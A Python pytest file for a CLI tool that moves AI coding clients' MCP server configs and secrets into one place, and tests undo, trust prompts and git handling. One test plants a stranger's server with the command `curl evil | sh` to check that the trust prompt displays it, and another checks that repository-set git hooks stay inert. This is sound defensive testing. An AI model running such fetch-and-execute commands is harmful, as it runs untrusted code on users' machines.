"""The verb `setup` on copies of real files of each program, without a daemon."""

import contextlib
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any, NamedTuple
from unittest import mock

import pytest
from click.testing import CliRunner

from carpool import launcher_lock
from carpool.cli import setup
from carpool.cli.main import verbs
from carpool.launcher import own_command
from carpool.setup import file_io
from carpool.setup.git import git_status
from carpool.setup.model import GitStatus
from carpool_protocol.bootstrap import paths
from carpool_protocol.config.edit.edit import set_member
from carpool_protocol.config.text.jsonc import parse
from carpool_protocol.wire.tool_name_resolver import qualify
from tests.behaviours import behaviour
from tests.kit.private_daemon import PrivateDaemon

FILES = Path(__file__).parent / "setup_files" / "home"
CANARIES = (
    *("canary-db-1pw", "ghp_canary0123456789abcdefABCDEF0001", "canary-sentry-2token", "BSAcanary3brave"),
    *("ghp_canary9999999999abcdefABCDEF0004", "canary-figma-5key", "ctx7sk-canary-6key"),
    *("AIzaCanary7777777777777777777777777777", "canary-8sauce", "canary-9pw"),
)
Tree = dict[str, tuple[int, bytes]]


def moved_in(house: PrivateDaemon) -> Path:
    """Every program's files, in the house; its project."""
    for file in FILES.rglob("*"):
        if file.is_file():
            to = house.base / file.relative_to(FILES)
            to.parent.mkdir(parents=True, exist_ok=True)
            to.write_bytes(file.read_bytes().replace(b"HOME", str(house.base).encode()))
    (house.base / ".claude.json").chmod(0o600)
    (house.base / ".cursor" / "mcp.json").chmod(0o664)
    project = house.base / "code" / "shop"
    git(project, "init", "--quiet", "--template=")
    return project


def git(project: Path, *arguments: str) -> None:
    """`git ARGUMENTS` in a project, without the configuration of who runs the tests."""
    environ = {"PATH": os.environ["PATH"], "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}
    subprocess.run(["git", *arguments], cwd=project, env=environ, timeout=60, check=True)


def tree(house: PrivateDaemon) -> Tree:
    """Every file of the home directory, but carpool's own records."""
    return {
        str(path.relative_to(house.base)): (stat.S_IMODE(path.lstat().st_mode), path.read_bytes())
        for path in sorted(house.base.rglob("*"))
        if path.is_file() and house.directory not in path.parents and not {"fakes", ".git"} & set(path.parts)
    }


class Done(NamedTuple):
    """A verb that has ended."""

    returncode: int
    stdout: str
    stderr: str


def run(house: PrivateDaemon, where: Path, *arguments: str) -> Done:
    """`carpool setup ARGUMENTS`, to its end. No server is started: the fixtures name programs of others."""
    tries = () if "--undo" in arguments or {"--try", "--no-try"} & set(arguments) else ("--no-try",)
    return invoke(house, where, "setup", *arguments, *tries)


def invoke(house: PrivateDaemon, where: Path, *arguments: str) -> Done:
    """`carpool ARGUMENTS` to its end, in this process: another one costs more than all it does."""
    with contextlib.chdir(where), mock.patch.dict(os.environ, house.environ, clear=True):
        result = CliRunner().invoke(verbs, arguments, prog_name="carpool")
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return Done(result.exit_code, result.stdout, result.stderr)


def jsonc(data: bytes) -> Any:
    """A file with comments, read."""
    return parse(data.decode(), "").value


def config(house: PrivateDaemon) -> Any:
    return json.loads((house.base / ".config/carpool/carpool.json").read_text())


def test_at_a_node_of_a_cluster_it_says_that_servers_of_other_nodes_have_no_roots(
    house: PrivateDaemon,
) -> None:
    project = moved_in(house)
    node_file = Path(paths.node_file(str(house.directory)))
    node_file.write_text(f'{{"pid":{os.getpid()},')
    assert "gets no roots of its agents" in run(house, project, "--yes").stdout.splitlines()[-1]


@behaviour("setup:moved", "setup:undone", "setup:secrets")
def test_every_program_s_files_are_set_up_and_afterwards_exactly_as_they_were(house: PrivateDaemon) -> None:
    project = moved_in(house)
    before = tree(house)
    done = run(house, project, "--yes")
    assert (done.returncode, done.stderr) == (0, "")
    after = tree(house)
    made = {".config/carpool/carpool.json", ".config/carpool/secrets.env", "code/shop/.carpool/mcp.json"}
    assert after.keys() - before.keys() == made
    assert [name for name in before if after[name] == before[name]] == []
    assert {name: after[name][0] for name in before} == {name: before[name][0] for name in before}
    for canary in CANARIES:
        assert canary not in done.stdout
        there = {name for name in after if canary.encode() in after[name][1]}
        assert there == {".config/carpool/secrets.env"}
    assert {after[name][0] for name in made if "shop" not in name} == {0o600}
    kept = house.directory / "state" / "setup"
    assert {stat.S_IMODE(each.stat().st_mode) for each in kept.rglob("*")} == {0o600, 0o700}
    assert done.stdout.splitlines()[-6:] == [
        "Done. Restart Claude Code, Claude Desktop, Cursor, VS Code, Windsurf, Codex, Gemini CLI, opencode; "
        "carpool starts by itself.",
        f"carpool trust {project}     lets the project's servers run",
        "carpool login linear     if that server wants one (also microsoft-docs, figma)",
        "carpool status           who is there, which servers run, what is saved",
        "carpool tools            what agents see",
        "carpool setup --undo     everything back as it was",
    ]
    again = run(house, project, "--yes")
    assert (again.returncode, tree(house)) == (0, after)
    assert again.stdout.endswith("nothing is changed\n")
    undone = run(house, project, "--undo")
    assert (undone.returncode, undone.stderr, tree(house)) == (0, "", before)
    assert not (house.base / ".config/carpool").exists()
    assert not (project / ".carpool").exists()
    assert [each.name for each in kept.iterdir()] == ["lock"]
    assert run(house, project, "--undo").stdout.startswith("there is nothing to undo")


@behaviour("setup:secrets")
def test_carpool_reads_what_setup_wrote_and_finds_every_secret(house: PrivateDaemon) -> None:
    project = moved_in(house)
    run(house, project, "--yes", "--trust")
    done = house.run("check", "--json")
    assert (done.returncode, json.loads(done.stdout)["problems"]) == (1, []), "its programs are not here"
    names = set(config(house)["mcpServers"])
    said = json.loads(invoke(house, project, "check", "--json").stdout)
    assert [each for each in said["warnings"] if "shadows" in each] == []
    assert {"github", "github-cursor", "Brave-Search", "microsoft-docs", "context7", "jira"} <= names
    lines = (house.base / ".config/carpool/secrets.env").read_text().splitlines()
    values = {line.partition("=")[2].strip('"') for line in lines}
    assert values >= set(CANARIES)


@behaviour("setup:undone", "setup:undone.since")
def test_somebody_else_s_changes_survive_an_undoing_and_also_a_forced_one(house: PrivateDaemon) -> None:
    """A token and a server that were written since were lost, with the copies of all files, by the
    `--undo --force` that setup itself advised.
    """
    project = moved_in(house)
    before = tree(house)
    run(house, project, "--yes", "--user-only")
    claude, cursor = house.base / ".claude.json", house.base / ".cursor" / "mcp.json"
    own = house.base / ".config/carpool/carpool.json"
    claude.write_text(claude.read_text().replace('"numStartups": 184', '"token": "canary-since"'))
    cursor.write_text(cursor.read_text().replace('"connect",', '"connect", "--canary", "canary-8sauce",'))
    own.write_text(set_member(own.read_text(), ("mcpServers", "mine"), {"command": "mine"}))
    changed, ours = cursor.read_bytes(), own.read_bytes()
    done = run(house, project, "--undo")
    assert done.returncode == 1
    assert "goes back; it was changed since setup: those changes stay" in done.stdout
    assert (
        f"{cursor} was changed since setup: carpool's own entry in it is another one, and stays"
        in done.stdout
    )
    assert f"{own} is needed by {cursor}, and stays" in done.stdout, "Cursor still gets its servers there"
    assert '"--canary",' in done.stdout
    after = tree(house)
    since = before[".claude.json"][1].replace(b'"numStartups": 184', b'"token": "canary-since"')
    assert after[".claude.json"][1] == since
    assert (cursor.read_bytes(), own.read_bytes()) == (changed, ours)
    again = run(house, project, "--undo")
    assert (again.returncode, tree(house)) == (1, after)
    assert str(claude) not in again.stdout, "it is undone"
    claude.write_bytes(since.replace(b"canary-since", b"canary-later"))
    done = run(house, project, "--undo", "--force")
    assert (done.returncode, done.stderr) == (0, "")
    there = tree(house)
    assert there.pop(".claude.json")[1] == since.replace(b"canary-since", b"canary-later")
    assert json.loads(there.pop(".config/carpool/carpool.json")[1]) == {
        "mcpServers": {"mine": {"command": "mine"}}
    }
    assert jsonc(there.pop(".cursor/mcp.json")[1]) == jsonc(before[".cursor/mcp.json"][1])
    assert there == {
        name: each for name, each in before.items() if name not in {".claude.json", ".cursor/mcp.json"}
    }
    copies = house.directory / "state" / "setup" / "0001"
    assert f"Copies of the files as they were before setup stay in {copies}." in done.stdout
    assert before[".cursor/mcp.json"][1] in [each.read_bytes() for each in copies.glob("*.before")]
    assert run(house, project, "--undo", "--force").stdout.startswith("there is nothing to undo")
    assert json.loads(own.read_text()) == {"mcpServers": {"mine": {"command": "mine"}}}


@behaviour("setup:undone.since")
def test_one_program_is_undone_alone_and_the_others_afterwards(house: PrivateDaemon) -> None:
    project = moved_in(house)
    before = tree(house)
    run(house, project, "--yes")
    after = tree(house)
    done = run(house, project, "--undo", "--client", "cursor")
    assert (done.returncode, done.stderr) == (0, "")
    its = {".cursor/mcp.json", "code/shop/.cursor/mcp.json"}
    assert tree(house) == {**after, **{name: before[name] for name in its}}
    assert "carpool.json keeps its servers" in done.stdout
    cursor = house.base / ".cursor/mcp.json"
    cursor.write_text("{}")
    done = run(house, project, "--undo")
    assert (done.returncode, str(cursor) in done.stdout) == (0, False)
    assert tree(house) == {**before, ".cursor/mcp.json": (before[".cursor/mcp.json"][0], b"{}")}


@behaviour("setup:undone.since")
def test_a_file_that_is_written_while_it_is_undone_keeps_that(house: PrivateDaemon) -> None:
    project = moved_in(house)
    run(house, project, "--yes")
    claude = house.base / ".claude.json"
    real = file_io.sweep_parts

    def written(path: str) -> None:
        if path == str(claude):
            claude.write_text(claude.read_text().replace("184", "185"))
        real(path)

    with mock.patch.object(file_io, "sweep_parts", written):
        done = run(house, project, "--undo")
    assert done.returncode == 1
    assert '"numStartups": 185' in claude.read_text()
    assert "github" in config(house)["mcpServers"], "Claude Code still gets its servers there"
    assert run(house, project, "--undo").returncode == 0
    assert '"numStartups": 185' in claude.read_text()


def test_after_the_last_undoing_what_stays_of_carpool_is_said(house: PrivateDaemon) -> None:
    project = moved_in(house)
    run(house, project, "--yes")
    state = house.directory / "state"
    (state / "log").mkdir()
    with mock.patch.object(launcher_lock, "holder", return_value=launcher_lock.LockHolder(7, "")):
        done = run(house, project, "--undo")
    assert done.stdout.splitlines()[-4:] == [
        "Done.",
        "carpool still runs, without a server. `carpool down` ends it.",
        f"{state} keeps what carpool noted (log).",
        "`carpool uninstall` ends carpool and says what is left; with --purge it removes that, too.",
    ]


@behaviour("setup:undone")
def test_two_setups_are_undone_by_one_undo(house: PrivateDaemon) -> None:
    project = moved_in(house)
    before = tree(house)
    run(house, project, "--yes", "--client", "cursor")
    run(house, project, "--yes")
    assert run(house, project, "--undo").returncode == 0
    assert tree(house) == before


@behaviour("setup:killed")
@pytest.mark.parametrize("writes", [32, 34, 40], ids=["the record", "carpool.json", "a program's file"])
def test_a_setup_that_is_killed_can_be_undone_and_said_again(house: PrivateDaemon, writes: int) -> None:
    project = moved_in(house)
    before = tree(house)
    # It kills itself in its write number WRITES: 31 copies, the record, the `env_file`, carpool.json, …
    script = (
        "import os, signal, sys\n"
        "from carpool_protocol.files import private_files\n"
        "real, left = private_files.replace, [int(sys.argv.pop(1))]\n"
        "def replace(path, data, mode=0o600):\n"
        "    left[0] -= 1\n"
        "    if not left[0]:\n"
        "        open(f'{path}.part-{os.getpid()}', 'wb').write(data[:9])\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "    real(path, data, mode)\n"
        "private_files.replace = replace\n"
        "from carpool.cli.main import main\n"
        "main()\n"
    )
    killed = subprocess.run(
        [sys.executable, "-c", script, str(writes), "setup", "--yes", "--no-try"],
        env=house.environ,
        cwd=project,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert killed.returncode == -signal.SIGKILL
    assert (tree(house) == before) == (writes == 32)
    assert run(house, project, "--yes").returncode == 0
    again = run(house, project, "--undo")
    assert (again.returncode, again.stderr) == (0, "")
    assert tree(house) == before


@behaviour("setup:stays")
def test_a_file_that_is_not_to_be_touched_is_said_and_the_others_go_on(house: PrivateDaemon) -> None:
    project = moved_in(house)
    (house.base / ".gemini/settings.json").chmod(0o444)
    (house.base / ".codex/config.toml").write_text("[mcp_servers")
    windsurf = house.base / ".codeium/windsurf/mcp_config.json"
    windsurf.write_bytes(b'{"mcpServers": {"a": {"command": "\xff"}}}')
    huge = house.base / ".config/opencode/opencode.jsonc"
    huge.write_bytes(huge.read_bytes() + b" " * (9 * 1024 * 1024))
    code = house.base / ".config/Code/User/mcp.json"
    code.unlink()
    os.mkfifo(code)
    theirs = project / ".mcp.json"
    elsewhere = house.base / "elsewhere.json"
    theirs.rename(elsewhere)
    theirs.symlink_to(elsewhere)
    aside = house.base / "aside"
    (project / ".gemini").rename(aside)
    (project / ".gemini").symlink_to(aside)
    mine = house.base / ".cursor/mcp.json"
    kept = house.base / "dotfiles.json"
    mine.rename(kept)
    mine.symlink_to(kept)
    before = tree(house) | {"code": (0, b"")}
    done = run(house, project, "--yes")
    assert (done.returncode, done.stderr) == (0, "")
    for name, why in (
        (".gemini/settings.json", "is read-only"),
        (".codex/config.toml", "is no TOML"),
        (".codeium/windsurf/mcp_config.json", "is not UTF-8"),
        (".config/opencode/opencode.jsonc", "is larger than 8388608 bytes"),
        (".config/Code/User/mcp.json", "is no regular file"),
        ("code/shop/.mcp.json", "is a link in a project"),
        ("code/shop/.gemini/settings.json", "is a link in a project"),
    ):
        assert f"{house.base / name} {why}" in done.stdout
    assert "connect" not in (aside / "settings.json").read_text()
    assert mine.is_symlink()
    assert "connect" in kept.read_text()
    assert "github" in config(house)["mcpServers"]
    assert run(house, project, "--undo").returncode == 0
    assert tree(house) | {"code": (0, b"")} == before


def test_a_broken_file_of_our_own_changes_nothing(house: PrivateDaemon) -> None:
    project = moved_in(house)
    own = house.base / ".config/carpool/carpool.json"
    own.parent.mkdir()
    own.write_text('{"mcpServers": {"a": {"comand": "x"}}}')
    before = tree(house)
    done = run(house, project, "--yes")
    assert (done.returncode, tree(house)) == (2, before)
    assert "did you mean `command`?" in done.stderr


def test_our_own_file_keeps_its_comments_and_its_env_file(house: PrivateDaemon) -> None:
    project = moved_in(house)
    own = house.base / ".config/carpool/carpool.json"
    own.parent.mkdir()
    own.write_text('{\n  // mine\n  "env_file": "my.env",\n  "mcpServers": {}\n}\n')
    (own.parent / "my.env").write_text("A=1")
    (own.parent / "my.env").chmod(0o644)
    before = tree(house)
    assert run(house, project, "--yes", "--client", "gemini").returncode == 0
    assert own.read_text().startswith('{\n  // mine\n  "env_file": "my.env",\n')
    env = own.parent / "my.env"
    assert env.read_text().startswith('A=1\nCARPOOL_MAPS_X_GOOG_API_KEY="')
    assert stat.S_IMODE(env.stat().st_mode) == 0o600
    assert run(house, project, "--undo").returncode == 0
    assert tree(house) == before


def test_a_dry_run_shows_everything_and_changes_nothing(house: PrivateDaemon) -> None:
    project = moved_in(house)
    before = tree(house)
    done = run(house, project, "--dry-run")
    assert (done.returncode, tree(house)) == (0, before)
    first = done.stdout.splitlines()[0]
    assert re.fullmatch(
        r"In short: \d+ servers go to carpool, 8 programs get its entry, \d+ files change\.", first
    )
    assert '-        "GITHUB_PERSONAL_ACCESS_TOKEN": "…"' in done.stdout
    assert done.stdout.endswith("nothing is changed: it was a dry run\n")
    found = json.loads(run(house, project, "--dry-run", "--json").stdout)
    assert (found["changed"], len(found["files"]), found["secrets"][0][:8]) == (False, 17, "CARPOOL_")
    assert {each["name"] for each in found["left"]} == {"vault", "old", "mine", "perplexity", "odd"}


@behaviour("trust:asked", "setup:project")
def test_a_person_is_asked_apart_for_own_files_the_project_s_files_and_its_servers(
    house: PrivateDaemon,
) -> None:
    project = moved_in(house)
    before = tree(house)
    code, said = house.answered("y\nn", "setup", "--no-try", where=project)
    assert (code, tree(house)) == (1, before)
    assert "Cursor had 4 of " in said
    assert (
        "Shall each program keep the servers it had? Else all of them see all [Y/n]: Change these" not in said
    )
    shown, counted, _ = said.partition("Change these files?")[0].rpartition("In short: ")
    assert (counted, "In short: " in shown) == ("In short: ", True), "before the differences, and after them"
    assert "\nChange these files? [y/n]: " in said or "Change these files? [y/N]" in said
    assert str(project) not in said.partition("Change these files?")[2]
    code, said = house.answered("y\ny\nn", "setup", "--no-try", where=project)
    assert code == 0
    after = tree(house)
    its = {name for name in after if name.startswith("code/shop/") and after[name] != before.get(name)}
    assert (its, ".cursor/mcp.json" in said) == (set(), True)
    assert "carpool setup --project  changes the files of the project, too" in said
    assert run(house, project, "--undo").returncode == 0
    assert tree(house) == before
    code, said = house.answered("y\ny\ny\ny", "setup", "--no-try", where=project)
    assert f"Change these files of the project {project}, too? [Y/n]" in said, "git tracks none of them"
    assert f"git will show {project}/.carpool/mcp.json, " in said
    assert f"May the servers of {project} run for you?" in said
    assert (code, "carpool trust" in said) == (0, False)
    store = house.directory / "state" / "trust.json"
    assert list(json.loads(store.read_text())["trusted"]) == [str(project / ".carpool/mcp.json")]
    assert run(house, project, "--undo").returncode == 0
    assert json.loads(store.read_text())["trusted"] == {}


@behaviour("setup:project")
def test_files_that_git_tracks_are_left_alone_unless_they_are_asked_for(house: PrivateDaemon) -> None:
    """A committed file was rewritten by default, with a path of this machine in it."""
    project = moved_in(house)
    git(project, "add", "--force", ".mcp.json", ".vscode/mcp.json")
    before = tree(house)
    done = run(house, project, "--yes")
    assert (done.returncode, done.stderr) == (0, "")
    theirs = {name: each for name, each in tree(house).items() if name.startswith("code/shop/")}
    assert theirs == {name: each for name, each in before.items() if name.startswith("code/shop/")}
    assert (
        f"git tracks {project}/.mcp.json, {project}/.vscode/mcp.json: others get this change" in done.stdout
    )
    assert done.stdout.endswith("\ncarpool setup --project  changes the files of the project, too\n")
    again = run(house, project, "--yes")
    assert (again.returncode, again.stdout.splitlines()[-2]) == (0, "nothing is changed")
    found = json.loads(run(house, project, "--yes", "--project", "--json").stdout)
    assert found["project"] == {
        "root": str(project),
        "changed": True,
        "tracked": [f"{project}/.mcp.json", f"{project}/.vscode/mcp.json"],
        "new": [
            f"{project}/{name}"
            for name in (
                ".carpool/mcp.json",
                ".cursor/mcp.json",
                ".codex/config.toml",
                ".gemini/settings.json",
            )
        ]
        + [f"{project}/opencode.json"],
    }
    entry = json.loads((project / ".mcp.json").read_text())["mcpServers"]["carpool"]
    assert "--profile" not in entry["args"], "others have no profile of ours"
    assert any(f"{project}/.mcp.json names no profile" in each for each in found["notes"])
    assert any(
        f"a path of this machine, which others do not have, is in {project}/.mcp.json, " in each
        for each in found["notes"]
    )
    own = json.loads((project / ".cursor/mcp.json").read_text())["mcpServers"]["carpool"]
    assert own["args"][1:3] == ["--profile", "cursor"]
    assert run(house, project, "--undo").returncode == 0
    assert tree(house) == before


@behaviour("setup:project")
def test_an_entry_for_all_names_no_path_where_the_next_shell_finds_carpool(house: PrivateDaemon) -> None:
    project = moved_in(house)
    git(project, "add", "--force", ".cursor/mcp.json")
    with mock.patch.object(own_command, "is_in_path", return_value=True):
        run(house, project, "--yes", "--project", "--share-all")
    entry = json.loads((project / ".cursor/mcp.json").read_text())["mcpServers"]["carpool"]
    assert entry == {
        "command": "carpool",
        "args": ["connect", "--tool-name-length", "50"],
        "env": {"LINT_TOKEN": "${env:LINT_TOKEN}"},
    }
    mine = jsonc((house.base / ".cursor/mcp.json").read_bytes())["mcpServers"]["carpool"]
    assert mine["env"]["CARPOOL_RUNTIME_DIR"] == house.environ["CARPOOL_RUNTIME_DIR"]
    assert os.path.isabs(mine["command"]), "the PATH of a desktop may be another one"


def test_nothing_that_a_repository_configures_runs_when_git_is_asked(tmp_path: Path) -> None:
    git(tmp_path, "init", "--quiet", "--template=")
    ran = tmp_path / "ran"
    spy = tmp_path / "spy"
    spy.write_text(f"#!/bin/sh\ntouch {ran}\n")
    spy.chmod(0o755)
    for name in ("core.fsmonitor", "core.pager", "core.askPass", "core.editor"):
        git(tmp_path, "config", name, str(spy))
    (tmp_path / "a").touch()
    git(tmp_path, "-c", "core.fsmonitor=false", "add", "a")
    ran.unlink(missing_ok=True)
    paths = [str(tmp_path / name) for name in ("a", "b")]
    assert git_status(str(tmp_path), paths) == GitStatus(frozenset(paths[:1]), frozenset(paths[1:]))
    assert not ran.exists()
    (tmp_path / ".git" / "HEAD").unlink()
    said = git_status(str(tmp_path), paths)
    assert (said.tracked, bool(said.why)) == (frozenset(paths), True), "in doubt others get the change"
    with mock.patch.object(shutil, "which", return_value=None):
        assert git_status(str(tmp_path), paths).why == "git is not installed here"


@behaviour("setup:profiles")
def test_every_program_keeps_the_servers_it_had(house: PrivateDaemon) -> None:
    """Cursor had three servers and got eleven, one of them twice under two names."""
    project = moved_in(house)
    before = tree(house)
    done = run(house, project, "--yes")
    profiles = config(house)["profiles"]
    assert profiles["cursor"] == {"allow": ["mcp:github-cursor", "mcp:linear", "mcp:notes", "mcp:lint"]}
    assert profiles["claude-desktop"]["allow"][0].startswith("mcp:")
    for name in (".cursor/mcp.json", "code/shop/.cursor/mcp.json"):
        entry = jsonc((house.base / name).read_bytes())["mcpServers"]["carpool"]
        assert entry["args"] == ["connect", "--profile", "cursor", "--tool-name-length", "50"]
    assert '"--profile", "codex"' in (house.base / ".codex/config.toml").read_text()
    assert "Cursor keeps the servers it had, 4 of " in done.stdout
    assert "no boundary" in done.stdout
    assert invoke(house, project, "trust", "--yes").returncode == 0
    for where in (project, house.base):
        checked = json.loads(invoke(house, where, "check", "--json").stdout)
        assert (checked["problems"], [each for each in checked["warnings"] if "profiles" in each]) == ([], [])
    added = invoke(house, house.base, "add", "later", "--", "sh")
    assert "do not see it before its `allow` in " in added.stderr
    assert invoke(house, house.base, "remove", "later").returncode == 0
    assert run(house, project, "--undo", "--client", "cursor").returncode == 0
    again = run(house, project, "--yes")
    assert again.returncode == 0
    assert config(house)["profiles"] == profiles, "its profile is there still"
    assert run(house, project, "--undo").returncode == 0
    assert tree(house) == before
    run(house, project, "--yes", "--share-all")
    assert "profiles" not in config(house)


@behaviour("setup:rules")
def test_rules_that_name_tools_are_shown_before_somebody_is_asked(house: PrivateDaemon) -> None:
    project = moved_in(house)
    mine, its = house.base / ".claude" / "settings.json", project / ".claude" / "settings.local.json"
    for file, held in (
        (mine, {"allow": ["mcp__github__get"], "deny": ["mcp__github__delete_repo"]}),
        (its, {"deny": ["mcp__lint__fix"]}),
    ):
        file.parent.mkdir()
        file.write_text(json.dumps({"permissions": held}))
    code, said = house.answered("y\nn", "setup", "--no-try", where=project)
    deny, allow = (said.index(f"{each}  {mine}: mcp__github__") for each in ("deny", "allow"))
    asked = said.index(
        "Change these files? 1 rule that keeps a tool back does not hold until you change it [y/n]"
    )
    assert (code, deny < allow < asked) == (1, True)
    assert "mcp__github__delete_repo -> mcp__carpool__github__delete_repo" in said
    assert str(its) not in said, "its server goes only with the project's files"
    found = json.loads(run(house, project, "--yes", "--json").stdout)
    assert [(each["file"], each["kind"], each["protects"]) for each in found["rules"]] == [
        (str(mine), "deny", True),
        (str(its), "deny", True),
        (str(mine), "allow", False),
    ]
    assert "Rules that keep nothing back until you change them: 2 (see above)" in found["next"]
    assert json.loads(mine.read_text())["permissions"]["deny"] == ["mcp__github__delete_repo"]


@pytest.mark.parametrize("runs", [False, True])
def test_names_of_tools_that_are_cut_for_programs_with_a_prefix_are_told(
    house: PrivateDaemon, *, runs: bool
) -> None:
    project = moved_in(house)
    tool = "add_pull_request_review_comment_to_pending_review"
    tools = [{"server": "github", "tool": each} for each in ("search", tool)]
    door = mock.MagicMock()
    door.__enter__.return_value.request.return_value = json.dumps({"tools": tools}).encode()
    held = launcher_lock.LockHolder(7, "") if runs else None
    with (
        mock.patch.object(launcher_lock, "holder", return_value=held),
        mock.patch.object(setup, "reach_broker", return_value=door),
    ):
        done = run(house, project, "--dry-run")
    short = qualify("github", tool, most=50)
    assert (
        f"1 name is cut to 50 characters (`carpool connect --tool-name-length 50`): {short}" in done.stdout
    ) == runs
    assert (
        "Once servers have run, `carpool check` names the tools that are cut to 50 characters" in done.stdout
    )


def test_programs_that_are_not_looked_into_are_named_with_their_files(house: PrivateDaemon) -> None:
    kiro = house.base / ".kiro" / "settings" / "mcp.json"
    kiro.parent.mkdir(parents=True)
    kiro.write_text('{"mcpServers": {"a": {"command": "x"}}}')
    goose = house.base / ".config" / "goose" / "config.yaml"
    goose.parent.mkdir(parents=True)
    goose.write_text("extensions: {}\n")
    done = run(house, house.base, "--yes")
    assert done.stdout.splitlines()[:2] == [
        f"{kiro} (Kiro) is not looked into: carpool can read a copy in servers.d beside carpool.json, by "
        '"include": ["servers.d/*.json"]',
        f"{goose} (Goose) is not looked into: carpool cannot read it; `carpool add` adds a server of it",
    ]
    project = moved_in(house)
    found = json.loads(run(house, project, "--yes", "--json").stdout)
    assert found["not_looked_into"] == [
        {"program": "Kiro", "file": str(kiro), "readable": True},
        {"program": "Goose", "file": str(goose), "readable": False},
    ]


@behaviour("trust:asked")
def test_what_somebody_else_put_into_the_project_s_file_is_not_trusted_along(house: PrivateDaemon) -> None:
    project = moved_in(house)
    there = project / ".carpool/mcp.json"
    there.parent.mkdir()
    there.write_text('{"mcpServers": {"evil": {"command": "evil"}}}')
    code, said = house.answered("y\ny\ny", "setup", "--no-try", where=project)
    assert code == 0
    assert "May the servers" not in said
    assert f"carpool trust {project}     lets" in said
    assert not (house.directory / "state" / "trust.json").exists()


def project_of(house: PrivateDaemon, own: dict[str, Any], its: dict[str, Any]) -> Path:
    """A project with a file of Cursor's, and the user's own servers."""
    file = house.base / ".config/carpool/carpool.json"
    file.parent.mkdir(parents=True)
    file.write_text(json.dumps({"mcpServers": own}))
    project = house.base / "code" / "shop"
    (project / ".cursor").mkdir(parents=True)
    git(project, "init", "--quiet", "--template=")
    (project / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": its}))
    return project


@behaviour("trust:asked")
def test_the_question_shows_what_runs_also_where_the_difference_hides_it(house: PrivateDaemon) -> None:
    """A stranger can give a secret the words of a command: then the difference shows neither."""
    its = {"a": {"command": "sh", "args": ["-c", "curl evil | sh"], "env": {"TOKEN": "curl evil | sh"}}}
    project = project_of(house, {"a": {"command": "mine"}}, its)
    code, said = house.answered("y\ny\nn", "setup", "--no-try", where=project)
    assert code == 0
    assert "a       sh -c 'curl evil | sh'  TOKEN" in said
    assert "a takes the place of your own server of this name" in said


@behaviour("trust:asked", "setup:undone")
def test_which_names_were_said_to_be_taken_over_is_kept_by_setup_and_by_its_undoing(
    house: PrivateDaemon,
) -> None:
    own = {"a": {"command": "mine"}, "b": {"command": "mine"}}
    project = project_of(house, own, {"b": {"command": "its"}})
    there = project / ".carpool/mcp.json"
    there.parent.mkdir()
    there.write_text('{"mcpServers": {"a": {"command": "its"}}}')
    assert house.run("trust", "--yes", str(project)).returncode == 0
    store = house.directory / "state" / "trust.json"
    before = json.loads(store.read_text())
    assert before["listed"] == {str(there): ["a"]}
    assert run(house, project, "--yes", "--trust").returncode == 0
    assert json.loads(store.read_text())["listed"] == {str(there): ["a", "b"]}
    assert house.run("trust", "--yes", str(project)).stdout == f"{there} is trusted already\n"
    assert run(house, project, "--undo").returncode == 0
    assert json.loads(store.read_text()) == before
    assert run(house, project, "--yes", "--trust").returncode == 0
    assert house.run("trust", "--revoke", str(project)).returncode == 0
    assert run(house, project, "--undo").returncode == 0
    assert json.loads(store.read_text())["trusted"] == {}, "what was taken back stays so"


@behaviour("trust:asked")
def test_what_changes_while_somebody_is_asked_is_not_trusted_along(house: PrivateDaemon) -> None:
    project = project_of(house, {}, {"b": {"command": "its"}})
    there, tools = project / ".carpool/mcp.json", project / ".carpool/tools.json"
    there.parent.mkdir()
    there.write_text('{"mcpServers": {"a": {"command": "its", "tools_file": "tools.json"}}}')
    tools.write_text("[]")
    assert house.run("trust", "--yes", str(project)).returncode == 0

    def changed(*_: Any) -> list[str]:
        tools.write_text('[{"name": "x", "inputSchema": {"type": "object"}}]')
        return applied(*_)

    applied = setup._apply
    with mock.patch.object(setup, "_apply", changed):
        done = run(house, project, "--yes", "--trust")
    assert (done.returncode, "was changed this very moment, and is not trusted" in done.stderr) == (1, True)
    assert "trusted already" not in house.run("trust", "--yes", str(project)).stdout


@behaviour("setup:secrets")
def test_no_copy_of_a_file_is_put_where_others_can_read_it(house: PrivateDaemon) -> None:
    project = moved_in(house)
    store = house.directory / "state" / "setup"
    store.mkdir(parents=True)
    store.chmod(0o755)
    before = tree(house)
    done = run(house, project, "--yes")
    assert (done.returncode, tree(house), list(store.iterdir())) == (2, before, [])
    assert f"run `chmod 700 {store}`" in done.stderr


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        ((), "nobody is there to be asked: look at it and say `carpool setup --yes`"),
        (("--force",), "--force goes with --undo"),
        (("--undo", "--user-only"), "--undo goes with --client, --force and --dry-run only"),
        (("--client", "emacs"), "is not one of"),
    ],
)
def test_what_is_missing_or_too_much_is_said(
    house: PrivateDaemon, arguments: tuple[str, ...], says: str
) -> None:
    project = moved_in(house)
    done = run(house, project, *arguments)
    assert done.returncode == 2
    assert says in done.stderr


def test_where_no_program_is_a_named_one_gets_the_entry_in_a_new_file(house: PrivateDaemon) -> None:
    done = run(house, house.base)
    assert (done.returncode, done.stdout.splitlines()[0]) == (
        0,
        "no program with MCP servers was found; nothing is changed",
    )
    settings = house.base / ".config/Code/User/settings.json"
    settings.parent.mkdir(parents=True)
    settings.write_text('{"editor.fontSize": 12}')
    before = tree(house)
    named = ("--client", "cursor", "--client", "codex", "--client", "vscode")
    assert run(house, house.base, "--yes", *named).returncode == 0
    assert settings.read_text() == '{"editor.fontSize": 12}'
    assert list(json.loads(settings.with_name("mcp.json").read_text())["servers"]) == ["carpool"]
    entry = json.loads((house.base / ".cursor/mcp.json").read_text())["mcpServers"]["carpool"]
    assert entry["args"] == ["connect", "--tool-name-length", "50"]
    assert shutil.which(entry["command"]) is not None
    assert "[mcp_servers.carpool]" in (house.base / ".codex/config.toml").read_text()
    assert run(house, house.base, "--undo").returncode == 0
    assert tree(house) == before
    assert not (house.base / ".cursor").exists()
